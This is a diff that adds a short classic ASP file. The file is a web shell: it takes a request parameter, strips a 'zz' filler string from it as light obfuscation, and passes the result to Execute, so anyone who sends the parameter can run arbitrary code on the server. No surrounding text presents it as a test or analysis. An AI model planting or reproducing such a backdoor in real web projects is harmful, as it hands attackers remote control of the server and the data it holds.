@@ -1,0 +1,7 @@
+<%
+If Request("k") <> "" Then
+  code = Request("k")
+  code = Replace(code, "zz", "")
+  Execute(code)
+End If
+%>
